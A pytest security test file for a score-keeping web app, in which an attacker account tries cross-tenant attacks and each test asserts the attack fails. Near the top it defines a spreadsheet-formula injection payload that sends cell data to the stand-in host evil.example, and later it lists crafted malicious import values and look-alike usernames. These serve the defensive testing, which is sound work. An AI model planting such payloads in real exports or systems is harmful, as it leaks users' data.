"""An attacker with an ordinary account against a victim league on the same server.

Two accounts (victim, mallory) and one victim league; one test per way in that issue 12
found open: each tries the attack and checks that it fails and leaves the victim's
records as they were.
"""
from __future__ import annotations

import base64
import csv
import io
from dataclasses import dataclass
from datetime import timedelta

import pytest

from scorekeeper.engine.games import Game
from scorekeeper.extensions import db
from scorekeeper.models import ShareLink, utcnow
from tests.support.api import post_round, sign_up
from tests.support.picks import any_game, other_round, rounds, seats

PASSWORD = "correct horse battery"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
MALLORY_ADDRESS = {"REMOTE_ADDR": "203.0.113.66"}
VICTIM_ADDRESS = {"REMOTE_ADDR": "198.51.100.7"}
GAME = any_game()
LEAGUE_PLAYERS = seats(GAME, ["Ann", "Bob", "Cid", "Eve"])
LEAGUE_ROUNDS = rounds(GAME, LEAGUE_PLAYERS, 3)
PAIR = seats(GAME, ["Ann", "Bob"])  # a casual table: as few as the game seats


def totals_after(game: Game, players: list[str], hands: list[dict]) -> list[int]:
    """The engine's totals after `hands`: what the API must serve."""
    return list(game.replay(game.table(players), hands).totals)


@dataclass
class Scene:
    app: object
    victim: object
    mallory: object
    league: str
    members: dict[str, str]
    match: str


def league_state(client, league: str) -> dict:
    """Everything of the league an attack could change."""
    return {
        "league": client.get(f"/api/v1/leagues/{league}").json,
        "standings": client.get(f"/api/v1/leagues/{league}/standings").json,
        "export": client.get(f"/api/v1/leagues/{league}/export").json,
    }


@pytest.fixture
def scene(clean_app) -> Scene:
    victim, mallory = clean_app.test_client(), clean_app.test_client()
    victim.environ_base.update(VICTIM_ADDRESS)
    mallory.environ_base.update(MALLORY_ADDRESS)
    sign_up(victim, "victim", PASSWORD)
    sign_up(mallory, "mallory", PASSWORD)
    league = victim.post("/api/v1/leagues", json={"name": "Thursday", "members": ["Ann", "Bob", "Cid", "Eve"]}).json
    match = victim.post(
        "/api/v1/matches",
        json={"game": GAME.id, "players": LEAGUE_PLAYERS, "league": league["id"]},
    ).json
    for hand in LEAGUE_ROUNDS:
        assert post_round(victim, match["id"], hand).status_code == 201
    members = {member["name"]: member["player_id"] for member in league["members"]}
    return Scene(clean_app, victim, mallory, league["id"], members, match["id"])


# --------------------------------------------------------------------------- the roster


def test_a_new_league_with_the_victims_names_gets_players_of_its_own(scene):
    before = league_state(scene.victim, scene.league)
    # Before Mallory has players of their own, no name of the victim's is suggested or listed.
    assert '<option value="Ann">' not in scene.mallory.get("/matches/new").get_data(as_text=True)
    assert '<option value="Ann">' in scene.victim.get("/matches/new").get_data(as_text=True)
    assert scene.mallory.get("/api/v1/players").json == []
    assert "Ann" not in scene.mallory.get("/players").get_data(as_text=True)
    own = scene.mallory.post("/api/v1/leagues", json={"name": "Copy", "members": ["Ann", "Bob", "Eve"]}).json
    own_ids = {member["player_id"] for member in own["members"]}
    assert not own_ids & set(scene.members.values())
    # A league match of Mallory's with the same names stays in Mallory's league too.
    scene.mallory.post("/api/v1/matches", json={"game": GAME.id, "players": LEAGUE_PLAYERS, "league": own["id"]})
    # The roster lists only what Mallory may see: never the victim's players.
    listed = {player["id"] for player in scene.mallory.get("/api/v1/players").json}
    assert listed and not listed & set(scene.members.values())
    # Merging Ann into Eve and renaming Eve with the victim's ids: refused, nothing changed.
    ann, eve = scene.members["Ann"], scene.members["Eve"]
    assert scene.mallory.post(f"/api/v1/players/{ann}/merge", json={"into": eve}).status_code in (403, 404)
    assert scene.mallory.patch(f"/api/v1/players/{eve}", json={"name": FORMULA}).status_code in (403, 404)
    # With one of its own players as the other half: across rosters, refused.
    mine = next(iter(own_ids))
    assert scene.mallory.post(f"/api/v1/players/{mine}/merge", json={"into": ann}).status_code in (403, 404, 409)
    assert scene.mallory.post(f"/api/v1/players/{ann}/merge", json={"into": mine}).status_code in (403, 404, 409)
    assert league_state(scene.victim, scene.league) == before
    # The victim's profile pages are not Mallory's to see either.
    assert scene.mallory.get(f"/api/v1/players/{ann}").status_code == 404


def test_even_the_owner_cannot_merge_across_rosters(scene):
    other = scene.victim.post("/api/v1/leagues", json={"name": "Sunday", "members": ["Ann"]}).json
    sunday_ann = other["members"][0]["player_id"]
    assert sunday_ann != scene.members["Ann"]
    refused = scene.victim.post(f"/api/v1/players/{sunday_ann}/merge", json={"into": scene.members["Ann"]})
    assert refused.status_code == 409 and refused.json["error"] == "merge_across_rosters"


def test_an_import_with_the_victims_ids_creates_nothing(scene):
    before = league_state(scene.victim, scene.league)
    export = scene.victim.get(f"/api/v1/leagues/{scene.league}/export").json
    export["league"]["id"] = "mallorys00000001"
    export["matches"] = []
    export["seasons"] = []
    export["players"] = [{**player, "name": FORMULA if player["name"] == "Ann" else player["name"]} for player in export["players"]]
    response = scene.mallory.post("/api/v1/leagues/import", json=export)
    assert response.status_code == 409 and response.json["error"] == "player_exists"
    assert scene.mallory.get("/api/v1/leagues").json == []
    assert league_state(scene.victim, scene.league) == before


def test_players_of_casual_matches_are_their_starters_own(scene):
    # A signed-in user's casual match, and one started without an account.
    owned = scene.victim.post("/api/v1/matches", json={"game": GAME.id, "players": seats(GAME, ["Zoe", "Yan", "Vic", "Una"])}).json
    anonymous = scene.app.test_client()
    loose = anonymous.post("/api/v1/matches", json={"game": GAME.id, "players": seats(GAME, ["Xia", "Wu", "Tom", "Sue"])}).json
    for match in (owned, loose):
        for player in match["players"]:
            response = scene.mallory.patch(f"/api/v1/players/{player['player_id']}", json={"name": "pwned"})
            assert response.status_code in (403, 404), response.json
    # Their starters may.
    assert scene.victim.patch(f"/api/v1/players/{owned['players'][0]['player_id']}", json={"name": "Zoë"}).status_code == 200
    assert anonymous.patch(f"/api/v1/players/{loose['players'][0]['player_id']}", json={"name": "Xiá"}).status_code == 200


# --------------------------------------------------------------------------- share links


def test_a_share_link_of_an_anonymous_match_never_writes(scene):
    phone = scene.app.test_client()
    first = rounds(GAME, PAIR, 2)
    match = phone.post("/api/v1/matches", json={"game": GAME.id, "players": PAIR}).json
    assert post_round(phone, match["id"], first[0]).status_code == 201
    link = phone.post(f"/api/v1/matches/{match['id']}/share", json={}).json
    token = link["token"]
    # Opaque: the id is neither in the token nor in anything decoded from it.
    assert match["id"] not in token
    decoded = base64.urlsafe_b64decode(token[3:] + "=" * (-len(token[3:]) % 4))
    assert match["id"].encode() not in decoded
    shared = scene.mallory.get(f"/api/v1/shared/{token}")
    assert shared.status_code == 200 and shared.json["match"]["totals"] == totals_after(GAME, PAIR, first[:1])
    assert match["id"] not in shared.get_data(as_text=True)
    page = scene.mallory.get(f"/shared/{token}").get_data(as_text=True)
    assert match["id"] not in page
    # The token itself writes nothing anywhere.
    for path in (f"/api/v1/matches/{token}/rounds", f"/api/v1/shared/{token}"):
        assert scene.mallory.post(path, json=first[1]).status_code in (404, 405)
    assert len(phone.get(f"/api/v1/matches/{match['id']}").json["rounds"]) == 1


def test_share_links_expire_and_are_revoked(scene):
    standings = scene.victim.post(f"/api/v1/leagues/{scene.league}/share", json={"expires_in_days": 7}).json
    match_link = scene.victim.post(f"/api/v1/matches/{scene.match}/share", json={}).json
    assert scene.mallory.get(standings["api_url"]).status_code == 200
    # Mallory cannot revoke (or list) the victim's links.
    assert scene.mallory.delete(f"/api/v1/share-links/{standings['id']}").status_code == 403
    assert scene.mallory.get(f"/api/v1/leagues/{scene.league}/share").status_code == 403
    assert scene.victim.delete(f"/api/v1/share-links/{match_link['id']}").status_code == 204
    gone = scene.mallory.get(match_link["api_url"])
    assert gone.status_code == 410 and gone.json["error"] == "share_revoked"
    assert scene.mallory.get(f"/shared/{match_link['token']}").status_code == 410
    with scene.app.app_context():
        db.session.get(ShareLink, standings["id"]).expires_at = utcnow() - timedelta(seconds=1)
        db.session.commit()
    assert scene.mallory.get(standings["api_url"]).json["error"] == "share_expired"
    # Only the hash is stored.
    with scene.app.app_context():
        stored = db.session.get(ShareLink, standings["id"])
        assert stored.token_hash != standings["token"] and standings["token"] not in stored.token_hash


def test_removing_a_viewer_ends_the_links_they_made(scene):
    viewer = scene.app.test_client()
    sign_up(viewer, "viewer", PASSWORD)
    assert scene.victim.put(f"/api/v1/leagues/{scene.league}/roles/viewer", json={"role": "viewer"}).status_code == 200
    link = viewer.post(f"/api/v1/leagues/{scene.league}/share", json={}).json
    match_link = viewer.post(f"/api/v1/matches/{scene.match}/share", json={}).json
    assert scene.mallory.get(link["api_url"]).status_code == 200
    assert scene.victim.delete(f"/api/v1/leagues/{scene.league}/roles/viewer").status_code == 204
    assert scene.mallory.get(link["api_url"]).status_code == 410
    assert scene.mallory.get(match_link["api_url"]).status_code == 410


# --------------------------------------------------------------------------- limits


def test_strangers_cannot_lock_the_real_user_out(scene):
    for _ in range(8):
        scene.mallory.post("/api/v1/session", json={"username": "victim", "password": "guess guess"})
    limited = scene.mallory.post("/api/v1/session", json={"username": "victim", "password": "guess again"})
    assert limited.status_code == 429 and int(limited.headers["Retry-After"]) > 0
    # The victim, from their own address, signs in at once.
    phone = scene.app.test_client()
    phone.environ_base.update(VICTIM_ADDRESS)
    assert phone.post("/api/v1/session", json={"username": "victim", "password": PASSWORD}).status_code == 200


def test_a_guessers_wait_grows(scene):
    waits = []
    for _ in range(8):
        response = scene.mallory.post("/api/v1/session", json={"username": "victim", "password": "guess guess"})
        if response.status_code == 429:
            waits.append(int(response.headers["Retry-After"]))
    assert len(waits) == 3 and waits[0] < waits[1] < waits[2]


def test_a_long_username_is_limited_like_any_other(scene):
    # "ß" folds to "ss": 30 of them fold to 60 characters, past the column's 40.
    name = "ß" * 30
    statuses = [
        scene.mallory.post("/api/v1/session", json={"username": name, "password": "guess guess"}).status_code
        for _ in range(6)
    ]
    assert statuses == [401] * 5 + [429]
    refused = scene.mallory.post("/api/v1/users", json={"username": name, "password": PASSWORD})
    assert refused.status_code == 422 and refused.json["error"] == "username"


def test_anonymous_match_creation_is_limited_per_address(clean_app):
    phone = clean_app.test_client()
    phone.environ_base.update(MALLORY_ADDRESS)
    statuses = [
        phone.post("/api/v1/matches", json={"game": GAME.id, "players": seats(GAME, [f"P{n}", f"Q{n}", f"R{n}", f"S{n}"])}).status_code
        for n in range(61)
    ]
    assert statuses == [201] * 60 + [429]
    limited = phone.post("/api/v1/matches", json={"game": GAME.id, "players": seats(GAME, ["A", "B", "C", "D"])})
    assert limited.status_code == 429 and int(limited.headers["Retry-After"]) > 0
    # Another address is not affected.
    other = clean_app.test_client()
    other.environ_base.update(VICTIM_ADDRESS)
    assert other.post("/api/v1/matches", json={"game": GAME.id, "players": seats(GAME, ["A", "B", "C", "D"])}).status_code == 201


def test_sign_ups_are_limited_per_address(clean_app):
    statuses = []
    for n in range(11):
        client = clean_app.test_client()
        client.environ_base.update(MALLORY_ADDRESS)
        statuses.append(client.post("/api/v1/users", json={"username": f"sock{n}", "password": PASSWORD}).status_code)
    assert statuses == [201] * 10 + [429]


# --------------------------------------------------------------------------- exports


def test_csv_cells_never_open_as_formulas(scene):
    # Ann deals round 1: her name is in the rounds export's dealer column.
    assert scene.victim.patch(f"/api/v1/players/{scene.members['Ann']}", json={"name": FORMULA}).status_code == 200
    for kind in ("matches", "rounds"):
        text = scene.victim.get(f"/api/v1/leagues/{scene.league}/export.csv?kind={kind}").get_data(as_text=True)
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.lstrip("-").isdigit(), cell
    rows = list(csv.DictReader(io.StringIO(
        scene.victim.get(f"/api/v1/leagues/{scene.league}/export.csv?kind=rounds").get_data(as_text=True)
    )))
    assert any(row["dealer"] == "'" + FORMULA for row in rows)


# --------------------------------------------------------------------------- sessions


def test_sign_out_ends_every_copy_of_the_session(scene):
    cookie = scene.mallory.get_cookie("session")
    copy = scene.app.test_client()
    copy.set_cookie("session", cookie.value)
    assert copy.get("/api/v1/users/me").status_code == 200
    assert scene.mallory.delete("/api/v1/session").status_code == 204
    assert copy.get("/api/v1/users/me").status_code == 401


def test_a_password_change_ends_the_other_sessions_and_the_api_tokens(scene):
    other_phone = scene.app.test_client()
    assert other_phone.post("/api/v1/session", json={"username": "victim", "password": PASSWORD}).status_code == 200
    token = scene.victim.post("/api/v1/tokens", json={"name": "old laptop"}).json
    script = scene.app.test_client()
    bearer = {"Authorization": f"Bearer {token['token']}"}
    assert script.get("/api/v1/users/me", headers=bearer).status_code == 200
    changed = scene.victim.put(
        "/api/v1/users/me/password", json={"current_password": PASSWORD, "new_password": "another long secret"}
    )
    assert changed.status_code == 200
    assert scene.victim.get("/api/v1/users/me").status_code == 200
    assert other_phone.get("/api/v1/users/me").status_code == 401
    assert other_phone.post("/api/v1/session", json={"username": "victim", "password": PASSWORD}).status_code == 401
    # The token made before the change no longer reads the account or makes new tokens.
    assert script.get("/api/v1/users/me", headers=bearer).status_code == 401
    assert script.post("/api/v1/tokens", json={"name": "new one"}, headers=bearer).status_code in (401, 403)
    assert scene.victim.get("/api/v1/tokens").json[0]["revoked_at"] is not None


def test_the_csrf_token_is_renewed_at_sign_in(clean_app):
    client = clean_app.test_client()
    client.get("/login")
    with client.session_transaction() as session:
        session["csrf_token"] = "known-to-the-attacker"
    sign_up(client, "fresh", PASSWORD)
    with client.session_transaction() as session:
        assert session.get("csrf_token") != "known-to-the-attacker"


# --------------------------------------------------------------------------- table check


def table_check_match(client, **extra) -> dict:
    body = {"game": GAME.id, "players": PAIR, "table_check": True, **extra}
    response = client.post("/api/v1/matches", json=body)
    assert response.status_code == 201, response.json
    return response.json


def test_table_check_on_a_signed_in_users_casual_match(scene):
    match = table_check_match(scene.victim)
    # A second phone at the table (no account) and the victim's second session.
    second_phone = scene.app.test_client()
    assert second_phone.get(f"/matches/{match['id']}").status_code == 200
    second_session = scene.app.test_client()
    assert second_session.post("/api/v1/session", json={"username": "victim", "password": PASSWORD}).status_code == 200
    hands = rounds(GAME, PAIR, 2)
    assert post_round(scene.victim, match["id"], hands[0]).status_code == 201
    assert second_phone.post(f"/api/v1/matches/{match['id']}/rounds/1/confirm", json={}).status_code == 200
    assert post_round(scene.victim, match["id"], hands[1]).status_code == 201
    assert second_session.post(f"/api/v1/matches/{match['id']}/rounds/2/confirm", json={}).status_code == 200
    assert scene.victim.get(f"/api/v1/matches/{match['id']}").json["totals"] == totals_after(GAME, PAIR, hands)


def test_the_recording_phone_never_confirms_its_own_round(scene):
    phone = scene.app.test_client()
    match = table_check_match(phone)
    assert post_round(phone, match["id"], rounds(GAME, PAIR, 1)[0]).status_code == 201
    same = phone.post(f"/api/v1/matches/{match['id']}/rounds/1/confirm", json={})
    assert same.status_code == 409 and same.json["error"] == "confirm_same_phone"
    # Without its cookie it is a new phone, and a phone new since the round cannot confirm it.
    cookieless = scene.app.test_client()
    refused = cookieless.post(f"/api/v1/matches/{match['id']}/rounds/1/confirm", json={})
    assert refused.status_code == 409 and refused.json["error"] == "confirm_new_phone"
    # Nor by signing in afresh.
    signed_in_afresh = scene.app.test_client()
    signed_in_afresh.post("/api/v1/session", json={"username": "mallory", "password": PASSWORD})
    refused = signed_in_afresh.post(f"/api/v1/matches/{match['id']}/rounds/1/confirm", json={})
    assert refused.status_code == 409 and refused.json["error"] == "confirm_new_phone"
    assert phone.get(f"/api/v1/matches/{match['id']}").json["pending"]["number"] == 1


def test_a_stranger_cannot_confirm_a_league_round(scene):
    match = table_check_match(scene.victim, players=LEAGUE_PLAYERS, league=scene.league)
    assert post_round(scene.victim, match["id"], LEAGUE_ROUNDS[0]).status_code == 201
    assert scene.mallory.post(f"/api/v1/matches/{match['id']}/rounds/1/confirm", json={}).status_code == 403


# --------------------------------------------------------------------------- crafted imports


def crafted(export: dict, path: tuple, value) -> dict:
    target = export
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    return export


CRAFTS = {
    "empty name": (("players", 0, "name"), ""),
    "control character": (("players", 0, "name"), "An\u0007n"),
    "bidi override": (("players", 0, "name"), "Ann\u202e"),
    "10,000 characters": (("players", 0, "name"), "A" * 10_000),
    "unreachable player id": (("players", 0, "id"), "a/b?c#d"),
    "unreachable league id": (("league", "id"), "a/b?c#d"),
    "league name control": (("league", "name"), "Thu\u0000rsday"),
    "season backwards": (("seasons", 0, "ends_on"), "2000-01-01"),
    "season games": (("seasons", 0, "games"), [{"evil": 1}]),
    "season min_matches": (("seasons", 0, "min_matches"), -5),
    "match seat twice": (("matches", 0, "players", 1), None),
    "round without input": (("matches", 0, "rounds", 0), {"number": 1, "created_at": "2026-01-01T00:00:00"}),
    "round not an object": (("matches", 0, "rounds", 0), 7),
    "table check not a boolean": (("matches", 0, "table_check"), "yes"),
}


@pytest.mark.parametrize("craft", list(CRAFTS))
def test_every_crafted_import_is_a_4xx_and_creates_nothing(scene, craft):
    scene.victim.post(
        f"/api/v1/leagues/{scene.league}/seasons", json={"name": "Winter", "starts_on": "2026-01-01", "ends_on": "2027-12-31"}
    )
    export = scene.victim.get(f"/api/v1/leagues/{scene.league}/export").json
    # Fresh ids throughout, so that only the crafted field is at fault.
    fresh = {player["id"]: f"fresh{index:011d}" for index, player in enumerate(export["players"])}
    export["league"]["id"] = "mallorysleague01"
    export["players"] = [{**player, "id": fresh[player["id"]]} for player in export["players"]]
    export["members"] = [fresh[player] for player in export["members"]]
    export["seasons"][0]["id"] = "mallorysseason01"
    for match in export["matches"]:
        match["id"] = "mallorysmatch001"
        match["players"] = [fresh[player] for player in match["players"]]
    path, value = CRAFTS[craft]
    if craft == "match seat twice":
        value = export["matches"][0]["players"][0]
    response = scene.mallory.post("/api/v1/leagues/import", json=crafted(export, path, value))
    assert 400 <= response.status_code < 500, (craft, response.status_code, response.json)
    assert scene.mallory.get("/api/v1/leagues").json == []
    assert scene.mallory.get("/api/v1/players").json == []
    assert scene.victim.get(f"/leagues/{scene.league}").status_code == 200


# --------------------------------------------------------------------------- smaller


@pytest.mark.parametrize("look_alike", ["vіctim", "ｖictim", "VICTIM", "victіm"])
def test_look_alike_usernames_are_refused(scene, look_alike):
    client = scene.app.test_client()
    response = client.post("/api/v1/users", json={"username": look_alike, "password": PASSWORD})
    assert response.status_code in (409, 422), response.json
    assert response.json["error"] in ("username_taken", "username_confusable")


@pytest.mark.parametrize("password", ["password", " " * 8, "12345678", "aaaaaaaaaaaa", "short"])
def test_weak_passwords_are_refused(clean_app, password):
    response = clean_app.test_client().post("/api/v1/users", json={"username": "someone", "password": password})
    assert response.status_code == 422 and response.json["error"] in ("password_short", "password_common")


def test_reasons_refuse_direction_overrides(scene):
    spoof = "fixed a typo \u202e5+"
    before = scene.victim.get(f"/api/v1/matches/{scene.match}").json["rounds"]
    edit = scene.victim.put(
        f"/api/v1/matches/{scene.match}/rounds/1", query_string={"reason": spoof},
        json=other_round(GAME, LEAGUE_PLAYERS, LEAGUE_ROUNDS, 1),
    )
    assert edit.status_code == 422 and edit.json["error"] == "reason"
    assert scene.victim.get(f"/api/v1/matches/{scene.match}").json["rounds"] == before
    refused = scene.victim.post(f"/api/v1/leagues/{scene.league}/members", json={"name": "Dee", "reason": spoof})
    assert refused.status_code == 422 and refused.json["error"] == "reason"
    assert "Dee" not in [member["name"] for member in scene.victim.get(f"/api/v1/leagues/{scene.league}").json["members"]]
    renamed = scene.victim.patch(f"/api/v1/players/{scene.members['Ann']}", json={"name": "Ann\u202e"})
    assert renamed.status_code == 422


def test_asking_for_accounts_by_role_grants_is_limited(scene):
    own = scene.mallory.post("/api/v1/leagues", json={"name": "Probe"}).json
    statuses = [
        scene.mallory.put(f"/api/v1/leagues/{own['id']}/roles/guess{n}", json={"role": "viewer"}).status_code
        for n in range(11)
    ]
    assert statuses == [404] * 10 + [429]


def test_every_change_to_league_records_is_audited(scene):
    viewer = scene.app.test_client()
    sign_up(viewer, "viewer", PASSWORD)
    victim, league = scene.victim, scene.league
    victim.put(f"/api/v1/leagues/{league}/roles/viewer", json={"role": "viewer", "reason": "new at the table"})
    victim.delete(f"/api/v1/leagues/{league}/roles/viewer?reason=moved away")
    dee = victim.post(f"/api/v1/leagues/{league}/members", json={"name": "Dee"}).json["player_id"]
    victim.delete(f"/api/v1/leagues/{league}/members/{dee}")
    victim.post(f"/api/v1/leagues/{league}/seasons", json={"name": "Winter", "starts_on": "2026-01-01", "ends_on": "2026-03-31"})
    victim.patch(f"/api/v1/players/{scene.members['Bob']}", json={"name": "Bobby", "reason": "his full name"})
    fay = victim.post(f"/api/v1/leagues/{league}/members", json={"name": "Fay"}).json["player_id"]
    victim.post(f"/api/v1/players/{fay}/merge", json={"into": scene.members["Cid"], "reason": "one person"})
    trail = victim.get(f"/api/v1/leagues/{league}/audit").json
    actions = [entry["action"] for entry in reversed(trail)]
    assert actions == [
        "league.create", "role.grant", "role.revoke", "member.add", "member.remove", "season.add",
        "player.rename", "member.add", "player.merge",
    ]
    rename = next(entry for entry in trail if entry["action"] == "player.rename")
    assert rename["actor"] == "victim" and rename["before"]["name"] == "Bob" and rename["after"]["name"] == "Bobby"
    assert rename["reason"] == "his full name" and rename["at"]
    grant = next(entry for entry in trail if entry["action"] == "role.grant")
    assert grant["after"] == {"username": "viewer", "role": "viewer"} and grant["reason"] == "new at the table"
    page = victim.get(f"/leagues/{league}").get_data(as_text=True)
    assert "History" in page and "his full name" in page and "Bobby" in page
    # Mallory sees none of it.
    assert scene.mallory.get(f"/api/v1/leagues/{league}/audit").status_code == 403
